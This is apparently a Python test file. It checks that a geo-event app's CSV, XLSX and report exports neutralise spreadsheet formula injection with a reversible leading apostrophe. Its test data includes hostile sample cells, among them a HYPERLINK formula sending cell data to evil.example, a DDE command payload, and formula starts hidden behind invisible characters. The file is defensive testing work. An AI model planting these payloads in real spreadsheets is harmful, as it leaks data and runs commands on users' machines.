"""Formula injection variants through every spreadsheet export: inert, and reversible.

Each variant of a formula start (OWASP's ``= + - @`` tab CR, LF and NUL, the fullwidth forms,
the same behind zero-width characters, a byte order mark or white space, and a cell that
already reads ``'=1+1``) must come out of the CSV, the XLSX, the report pack's CSVs and the
validation report's CSV starting with ``'``, never as a formula; removing one leading ``'``
gives the original text back.
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
import zipfile

import openpyxl
import pytest

from geo.errors import Problem
from geo.pipeline import ViewData, build_view, load_dataset
from geo.reference import load_reference
from geo.view import ViewParams
from render.exports.data import export_data
from render.exports.pack import export_pack
from render.markup import neutralise, restore
from tests.adversarial.corpus import csv_bytes
from tests.factories import make_events
from webapp.uploads import report_csv

#: Every variant, by name: text a spreadsheet could run as a formula (or that already reads
#: like a neutralised cell), each of which must gain exactly one leading ``'``.
VARIANTS = {
    "equals": "=1+1",
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(A1)",
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "dde": "=cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "lf": "\n=1+1",
    "nul": "\0=1+1",
    "fullwidth equals": "\uff1d1+1",
    "fullwidth plus": "\uff0b1+1",
    "fullwidth minus": "\uff0d1+1",
    "fullwidth at": "\uff20SUM(A1)",
    "zero-width space": "\u200b=1+1",
    "zero-width non-joiner": "\u200c+1+1",
    "zero-width joiner": "\u200d-1",
    "word joiner": "\u2060@SUM(A1)",
    "byte order mark": "\ufeff=1+1",
    "bom then fullwidth": "\ufeff\uff1d1+1",
    "several invisibles": "\u200b\u200d\ufeff=1+1",
    "space": " =1+1",
    "ideographic space": "\u3000=1+1",
    "nbsp": "\u00a0+1",
    "already quoted": "'=1+1",
    "quoted twice": "''=1+1",
    "quoted text": "'plain",
}
#: Text that needs no prefix and must come out exactly as it went in.
PLAIN = ("plain", "a=b", "it's", "1+1", "Hyesan", "한국어 =", "中文")
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "\uff1d", "\uff0b", "\uff0d", "\uff20")
TEXT_COLUMNS = ("notes", "source_org", "source_title", "evidence_quote", "location_text")
_OOXML = re.compile(r"_x([0-9A-Fa-f]{4})_")


def unguarded(cell: str) -> bool:
    """True when a spreadsheet could read ``cell`` as a formula: a trigger first, or behind
    white space and invisible (control or format) characters, without the ``'`` prefix."""
    if cell.startswith("'"):
        return False
    head = cell.lstrip()
    while head and (head[0].isspace() or unicodedata.category(head[0]) in ("Cc", "Cf")):
        head = head[1:]
    return cell.startswith(TRIGGERS) or head.startswith(TRIGGERS)


def ooxml_unescape(text: str) -> str:
    """Return XLSX cell text with OOXML ``_xHHHH_`` escapes turned back into characters."""
    return _OOXML.sub(lambda m: chr(int(m.group(1), 16)), text)


@pytest.mark.parametrize("name", VARIANTS)
def test_the_guard_prefixes_every_variant_once_and_reversibly(name):
    text = VARIANTS[name]
    assert unguarded(text) or text.startswith("'")  # the variant is dangerous or quoted
    cell = neutralise(text)
    assert cell == "'" + text
    assert restore(cell) == text


def test_already_quoted_and_plain_cells_stay_distinct():
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("'=1+1") == "''=1+1"
    assert restore(neutralise("'=1+1")) != restore(neutralise("=1+1"))
    for text in PLAIN:
        assert neutralise(text) == text and restore(neutralise(text)) == text


@pytest.fixture(scope="module")
def originals():
    """One event per variant (and per plain text), the text in every free-text column."""
    texts = [*VARIANTS.values(), *PLAIN]
    return {f"ev{i}": text for i, text in enumerate(texts)}


def view_of(texts: dict[str, str], columns=TEXT_COLUMNS) -> ViewData:
    """Return the view of one event per ``event_id: text``, the text in each of ``columns``."""
    rows = [
        {"event_id": event_id, "date_start": "2024-04-26", "count_best": 60, "lat": 42.97,
         "lon": 129.84, "provinces": "CN-JL", **dict.fromkeys(columns, text)}
        for event_id, text in texts.items()
    ]  # fmt: skip
    return build_view(make_events(rows), ViewParams())


@pytest.fixture(scope="module")
def data(originals):
    return view_of(originals)


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def assert_csv_inert_and_reversible(records: list[dict[str, str]], originals: dict) -> None:
    assert len(records) == len(originals)
    for record in records:
        for column, cell in record.items():
            assert not unguarded(cell), (column, cell)
        text = originals[record["event_id"]]
        for column in TEXT_COLUMNS:
            if text in PLAIN:
                assert record[column] == text
            else:
                assert record[column][0] == "'", (column, record[column])
                assert restore(record[column]) == text


def test_csv_export(data, originals, tmp_path):
    out = export_data(data, tmp_path / "events.csv", fmt="csv")
    records = read_csv(out.read_bytes().decode("utf-8-sig"))
    assert_csv_inert_and_reversible(records, originals)
    assert records[0]["count_best"] == "60"  # numbers stay numbers


def test_xlsx_export(data, originals, tmp_path):
    out = export_data(data, tmp_path / "events.xlsx", fmt="xlsx")
    with zipfile.ZipFile(out) as archive:
        xml = b"".join(archive.read(n) for n in archive.namelist() if "worksheets/" in n)
    assert re.search(rb"<(?:\w+:)?f[\s>/]", xml) is None  # no formula element anywhere
    book = openpyxl.load_workbook(out)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    assert not unguarded(ooxml_unescape(cell.value)), (sheet.title, cell.value)
    sheet = book["events"]
    header = [c.value for c in sheet[1]]
    for row in sheet.iter_rows(min_row=2):
        record = {header[i]: cell for i, cell in enumerate(row)}
        text = originals[record["event_id"].value]
        for column in TEXT_COLUMNS:
            value = ooxml_unescape(record[column].value)
            assert value == (text if text in PLAIN else "'" + text), (column, value)
            assert restore(value) == text
        assert record["count_best"].value == 60 and record["count_best"].data_type == "n"
        assert record["lat"].data_type == "n"
    sources = book["sources"]
    organisations = {ooxml_unescape(c.value) for c in sources["A"][1:]}
    assert {restore(o) for o in organisations} == set(originals.values())


#: A source organisation holding U+FEFF once made the PDF page (and so the pack) fail in
#: matplotlib's PDF backend; the print map now leaves invisible format characters out of its
#: text, and ``test_report_pack_with_a_byte_order_mark_in_a_source`` keeps it so.
BOM = "\ufeff"


def test_report_pack_csvs(originals, tmp_path):
    out = export_pack(view_of(originals), load_reference(), tmp_path / "pack.zip")
    with zipfile.ZipFile(out) as archive:
        names = [n for n in archive.namelist() if n.endswith(".csv")]
        texts = {n.rsplit("/", 1)[-1]: archive.read(n).decode("utf-8-sig") for n in names}
    assert set(texts) == {"events.csv", "sources.csv", "by_year.csv"}
    for record in csv.reader(io.StringIO(texts["by_year.csv"], newline="")):
        assert not any(unguarded(cell) for cell in record), record
    assert_csv_inert_and_reversible(read_csv(texts["events.csv"]), originals)
    sources = list(csv.reader(io.StringIO(texts["sources.csv"], newline="")))
    for record in sources:
        for cell in record:
            assert not unguarded(cell), cell
    assert {restore(r[0]) for r in sources[1:]} == set(originals.values())


def test_report_pack_with_a_byte_order_mark_in_a_source(tmp_path):
    data = view_of({"bom": BOM + "=1+1"}, columns=("source_org",))
    out = export_pack(data, load_reference(), tmp_path / "pack.zip")
    with zipfile.ZipFile(out) as archive:
        events = archive.read(next(n for n in archive.namelist() if n.endswith("events.csv")))
    assert "'" + BOM + "=1+1" in events.decode("utf-8-sig")


def test_validation_report_csv():
    texts = [*VARIANTS.values(), *PLAIN]
    problems = [
        Problem(i + 2, text, text, "error", text) for i, text in enumerate(texts)
    ]  # column, value and message all hostile
    records = list(csv.reader(io.StringIO(report_csv(problems).decode("utf-8-sig"), newline="")))
    assert records[0] == ["row", "column", "value", "severity", "problem"]
    for record, text in zip(records[1:], texts, strict=True):
        for cell in record:
            assert not unguarded(cell), cell
        for cell in (record[1], record[2], record[4]):
            assert cell == (text if text in PLAIN else "'" + text)
            assert restore(cell) == text


def test_the_real_upload_path_keeps_the_guard(tmp_path):
    # What validation keeps of each variant (outer white space is stripped) is guarded too.
    header = ("event_id", "date", "count_text", "admin1_codes", "source_url", "notes")
    rows = [(f"v{i}", "2024-04-26", "60", "CN-JL", "https://example.org/a", text)
            for i, text in enumerate(VARIANTS.values()) if "\0" not in text]  # fmt: skip
    events = load_dataset(csv_bytes(rows, header=header), "variants.csv").events
    assert len(events) == len(rows)
    out = export_data(build_view(events, ViewParams()), tmp_path / "events.csv", fmt="csv")
    records = read_csv(out.read_bytes().decode("utf-8-sig"))
    kept = dict(zip(events["event_id"], events["notes"], strict=True))
    assert len(records) == len(kept)
    for record in records:
        assert not unguarded(record["notes"]), record["notes"]
        assert restore(record["notes"]) == kept[record["event_id"]]
